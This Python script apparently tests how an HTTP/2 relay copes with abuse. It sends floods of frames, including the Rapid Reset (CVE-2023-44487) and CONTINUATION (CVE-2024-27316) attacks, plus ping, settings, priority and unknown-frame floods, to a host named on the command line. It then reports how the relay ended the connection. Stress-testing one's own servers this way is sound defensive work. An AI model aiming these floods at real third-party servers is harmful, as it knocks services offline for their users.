"""A client that wants a relay to be busy with it alone. HOST MODE AUTHORITY

Says how the relay has ended that, and how much of it there was.
"""

import socket
import ssl
import struct
import sys

import hyperframe.frame as frames

# Nothing is left beside the scripts.
sys.dont_write_bytecode = True

from relay_h2 import Client

# More than a relay should take, and less than takes it a while.
MOST = 400_000


def ended(client):
    """How the relay ends a connection that it has had enough of."""
    heard = b""
    try:
        while data := client.tls.recv(65536):
            heard += data
            while len(heard) >= 9:
                frame, length = frames.Frame.parse_frame_header(heard[:9])
                if len(heard) < 9 + length:
                    break
                if isinstance(frame, frames.GoAwayFrame):
                    frame.parse_body(memoryview(heard[9 : 9 + length]))
                    return f"GOAWAY {frame.error_code}"
                heard = heard[9 + length :]
    except (ssl.SSLError, ConnectionResetError, BrokenPipeError, TimeoutError) as error:
        return type(error).__name__
    return "end"


def headers(client, authority, stream):
    block = client.h2.encoder.encode([(":method", "CONNECT"), (":authority", authority)])
    return frames.HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()


def flood(client, mode, authority):
    """One piece of it after the other."""
    if mode == "resets":
        # CVE-2023-44487
        for stream in range(1, 2 * MOST, 2):
            yield headers(client, authority, stream) + frames.RstStreamFrame(stream, 8).serialize()
    elif mode == "requests":
        for stream in range(1, 2 * MOST, 2):
            yield headers(client, authority, stream)
    elif mode == "settings":
        for number in range(MOST):
            yield frames.SettingsFrame(0, {1: number % 4096}).serialize()
    elif mode == "pings":
        yield from [frames.PingFrame(0, b"8 bytes.").serialize()] * MOST
    elif mode == "pongs":
        yield from [frames.PingFrame(0, b"8 bytes.", flags=["ACK"]).serialize()] * MOST
    elif mode == "priorities":
        for number in range(MOST):
            yield frames.PriorityFrame(1 + 2 * (number % 1000), depends_on=0, stream_weight=1).serialize()
    elif mode == "unknown":
        yield from [struct.pack(">I", 0)[1:] + bytes([0xBE, 0]) + bytes(4)] * MOST
    elif mode == "empty":
        yield headers(client, authority, 1)
        yield from [frames.DataFrame(1, b"").serialize()] * MOST
    elif mode == "continuation":
        # HEADERS without END_HEADERS, and then CONTINUATION without end (CVE-2024-27316).
        yield frames.HeadersFrame(1, b"\x40" * 16000).serialize()
        yield from [frames.ContinuationFrame(1, b"\x40" * 16000).serialize()] * 20_000
    elif mode == "nothing":
        # The same, of nothing.
        yield frames.HeadersFrame(1, b"").serialize()
        yield from [frames.ContinuationFrame(1, b"").serialize()] * MOST
    else:
        raise AssertionError(mode)


def main():
    host, mode, authority = sys.argv[1:4]
    client = Client(host)
    pieces, whole = b"", True
    try:
        for piece in flood(client, mode, authority):
            pieces += piece
            if len(pieces) > 32_000:
                client.tls.sendall(pieces)
                pieces = b""
        client.tls.sendall(pieces)
    except (ssl.SSLError, ConnectionResetError, BrokenPipeError, TimeoutError):
        whole = False
    client.tls.settimeout(60)
    print(ended(client), "all of it was taken" if whole else "part of it was taken")


main()
